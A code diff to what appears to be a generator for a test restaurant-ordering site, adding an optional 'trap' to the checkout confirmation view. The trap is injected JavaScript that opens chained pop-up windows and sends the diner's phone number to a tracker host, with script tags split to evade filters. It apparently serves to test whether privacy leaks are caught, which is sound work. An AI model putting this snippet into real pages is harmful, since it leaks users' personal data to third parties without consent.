@@ -3,6 +3,8 @@ footer, whose menu / cart / checkout live in a same-origin ``<iframe>`` (``frame
 
 Gates marked ``where: "top"`` run in the shell before the frame is inserted;
 the others run inside the frame.  An optional server-side OAuth 302 guards the shell.
+With ``cfg.traps.popups`` the frame's confirmation view opens pop-up windows (one of them
+opening another) that send the diner's phone to the tracker.
 """
 
 from __future__ import annotations
@@ -97,6 +99,13 @@ QG.run('checkout',function(){{var el=document.getElementById('content');
     else:
         inner = '<div id="content"></div>'
         js = "var el=document.getElementById('content');el.innerHTML=QG.doneHtml();QG.wireDone(el);"
+        if m["cfg"].get("traps", {}).get("popups"):
+            # from inside the frame: three windows, each sending the diner's phone on (one opens a window itself)
+            js += ("var ph=QG.get('phone');if(ph)setTimeout(function(){"
+                   "window.open(QA.base+'/coupon?ph='+ph+'&tp='+encodeURIComponent(QA.tp),'_blank');"
+                   "var w=window.open('');if(w){w.document.write('<p>loading</p><img src=\"'+QA.tp+'/pixel.gif?ev=popup&u='+btoa(ph)+'\">');w.document.close();}"
+                   "var w2=window.open('');if(w2){w2.document.write('<scr'+'ipt>window.open('+JSON.stringify(QA.tp+'/collect?ev=nested&mobile='+ph)+');</scr'+'ipt>');w2.document.close();}"
+                   "},300);")
         tabs = ""
     body = (f"{tabs}{inner}<script>window.QA={conf};QA.menu={menu};</script><script src=\"/static/gates.js\"></script>"
             f"<script>{js}</script>")
